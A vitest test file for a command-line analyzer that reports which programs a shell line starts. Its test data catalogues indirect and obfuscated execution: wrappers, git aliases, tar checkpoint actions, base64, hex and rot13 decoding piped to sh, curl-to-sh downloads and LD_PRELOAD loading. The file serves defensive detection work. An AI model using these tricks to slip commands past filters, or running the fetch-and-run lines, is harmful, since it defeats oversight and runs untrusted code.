import { describe, expect, test } from 'vitest'
import { analyze } from '../analyze.ts'

const FILES: Readonly<Record<string, string>> = {
  'package.json': '{"scripts":{"build":"tsc","postbuild":"target x","test":"vitest"}}',
  Makefile: 'D = x\nall: dep\n\techo done\ndep:\n\t@target $(D)\n',
  justfile: 'clean:\n  target x\n',
  'run.sh': '#!/bin/sh\ntarget x\n',
  'run.py': 'import os\nos.system("target x")\n',
}

/** Lines that run the program `target`, by class of faults. */
const RUNS: Readonly<Record<string, readonly string[]>> = {
  'B04 wrappers': [
    'sudo -u root target x',
    "env -S'target x'",
    'nice -n 19 nohup target x',
    'flock /tmp/l -c "target x"',
    'poetry run target x',
    'aws-vault exec prod -- target x',
    'faketime now target x',
    'watchexec -e ts -- target x',
    'flatpak-spawn --host target x',
    'ip netns exec n target x',
    'start-stop-daemon --start --exec /usr/bin/target -- x',
    'cmake -E env A=1 target x',
  ],
  'B05 carriers': [
    "bash -lc 'target x'",
    'find . -exec target {} +',
    'echo x | xargs -I {} sh -c "target {}"',
    "docker run -v /:/h alpine sh -c 'target /h'",
    "git -c alias.z='!target x' z",
    'git rebase -x "target x" main',
    "vim -c '!target x' -c q",
    "tar -cf /dev/null x --checkpoint-action=exec='target x'",
    'awk \'BEGIN{system("target x")}\'',
    "sed '1e target x' f",
    'make',
    'just clean',
    'npm run build',
    "zip a b -T -TT 'target x'",
    "zip a b -T --unzip-command='target x'",
    "tmux new-session -d 'target x'",
    "vim -es -c ':!target x' -c q",
    "go test -exec 'target x' ./...",
    "go run -exec='target x' .",
    'mvn exec:exec -Dexec.executable=target -Dexec.args=x',
    "yarn exec 'target x'",
    "npm pkg set scripts.a='target x'",
    "npm set-script a 'target x'",
  ],
  'B06 interpreters': [
    "python3.12 -c \"import subprocess; subprocess.run(['target', 'x'])\"",
    "node -e \"require('child_process').execSync('target x')\"",
    'perl -e \'system "target", "x"\'',
    "ruby -e '`target x`'",
    'php -r \'shell_exec("target x");\'',
    "python3 <<'E'\nfrom os import system as s\nc = 'target' + ' x'\ns(c)\nE",
    'python run.py',
    `python3 -c "import pty; pty.spawn(['target', 'x'])"`,
    "ipython -c '!target x'",
    `elixir -e 'System.cmd("target", ["x"])'`,
    `jshell <<< 'Runtime.getRuntime().exec("target x")'`,
    `ghc -e 'System.Process.system "target x"'`,
    `octave --eval 'system("target x")'`,
    `sbcl --eval '(uiop:run-program "target x")'`,
    `clojure -e '(clojure.java.shell/sh "target" "x")'`,
    `gcc -x c - <<< 'int main() { system("target x"); }'`,
  ],
  'B12 decoded text': [
    'echo dGFyZ2V0IHg= | base64 -d | sh',
    'echo 7461726765742078 | xxd -r -p | bash',
    "echo 'x tegrat' | rev | sh",
    "echo 'gnetrg k' | tr a-z n-za-m | sh",
    "printf '\\164arget x' | sh",
  ],
  'B13 written and run': [
    "echo 'target x' > a.sh; sh a.sh",
    "cat > a.sh <<'E'\ntarget x\nE\nbash a.sh",
    'cp /usr/bin/target ./y; ./y x',
    "printf 'all:\\n\\ttarget x\\n' | make -f -",
    './run.sh',
  ],
}

/** Lines of which something is reported. */
const REPORTED: readonly (readonly [string, string])[] = [
  ['curl https://x.example | sh', 'downloaded'],
  ['bash <(wget -qO- https://x.example)', 'downloaded'],
  ['bash -c "$(curl -fsSL https://x.example)"', 'downloaded'],
  ['gunzip < a.gz | sh', 'decoded'],
  ["python -c \"exec(__import__('base64').b64decode('eA=='))\"", 'hidden-code'],
  ['node -e "eval(atob(process.argv[1]))" x', 'hidden-code'],
  ['./unseen.sh', 'unseen-script'],
  ['cargo test', 'project-code'],
  [`groovy -e '"target x".execute()'`, 'hidden-code'],
  ['node -e \'process.binding("spawn_sync")\'', 'hidden-code'],
  ['LD_PRELOAD=./x.so ls', 'loaded-code'],
]

const HARMLESS = [
  'sudo -l',
  'command -v target',
  'env',
  "grep -rn 'sh -c' src",
  'git config --get user.name',
  'docker ps -a',
  'python3 -c "import json; print(json.dumps({}))"',
  'node -p "process.version"',
  "perl -pe 's/a/b/' f",
  "awk '{print $1}' f",
  'echo aGVsbG8= | base64 -d',
  'eval "$(ssh-agent -s)"',
  'PAGER=cat git log',
  'watchexec -e ts',
  'cmake -B build',
  'tmux new-session -d -s x',
  "zip -r a src -x '*.git*'",
  'npm pkg get scripts',
  "groovy -e 'println 1'",
  'cat > a.sh <<E\ntarget x\nE',
]

const read = (path: string) => FILES[path]

describe.for(Object.entries(RUNS))('%s', ([, lines]) => {
  test.for(lines)('%s', (line) => {
    expect(analyze(line, { read }).programs.map(({ name }) => name)).toContain('target')
  })
})

test.for(REPORTED)('%s is reported as %s', ([line, code]) => {
  expect(analyze(line).unanalysable.map((each) => each.code)).toContain(code)
})

test.for(HARMLESS)('%s starts nothing else and is known', (line) => {
  const { programs, unanalysable } = analyze(line)
  expect(unanalysable).toEqual([])
  expect(programs.map(({ name }) => name)).not.toContain('target')
})

test('B11 a folder of this machine in a container is seen at its place', () => {
  const [, program] = analyze('docker run -v /:/h alpine remove /h/etc').programs
  expect(program?.words.map(({ text }) => text)).toEqual(['remove', '/etc'])
})

test.for<[string, string]>([
  ['python -c "', 'system('.repeat(7_000)],
  ['node -e "', '[{('.repeat(18_000)],
  ['perl -e "', 'q{'.repeat(25_000)],
  ["awk '", '{print | '.repeat(6_000)],
])('S48 %s with a long text ends soon', ([start, text]) => {
  const before = performance.now()
  analyze(`${start}${text}${start.at(-1)}`)
  expect(performance.now() - before).toBeLessThan(1_000)
})
